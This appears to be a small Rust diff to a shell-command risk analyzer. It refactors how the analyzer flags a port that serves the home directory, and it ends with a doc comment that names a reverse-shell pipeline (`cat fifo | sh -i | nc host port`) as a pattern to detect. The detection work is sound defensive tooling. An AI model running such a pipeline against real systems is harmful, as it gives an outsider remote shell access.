@@ -3,8 +3,9 @@
 use super::download::{is_shell, obeys_stdin};
 use super::host::{host_of, is_local};
 use super::send::{NETCAT, SSH};
+use crate::effects::home;
 use crate::effects::options::{Spec, Words};
-use crate::effects::secrets::{consumers, covers_home};
+use crate::effects::secrets::consumers;
 use crate::effects::touch::absolute;
 use crate::effects::{Certainty, Cx, Effect, EffectKind, Scope};
 use crate::syntax::{CodeFact, Gap, Invocation, RedirectKind};
@@ -148,7 +149,7 @@ fn home_server(inv: &Invocation, cx: &Cx) -> Found {
         .values(&["-d", "--directory"])
         .last()
         .map_or_else(|| inv.cwd.text().into_owned(), |dir| absolute(dir, inv, cx));
-    covers_home(&folder, cx).then(|| (format!("port serving {folder}"), Certainty::Possible))
+    home::is_covered_by(&folder, cx.world).then(|| (format!("port serving {folder}"), Certainty::Possible))
 }
 
 /// `cat fifo | sh -i | nc host port`
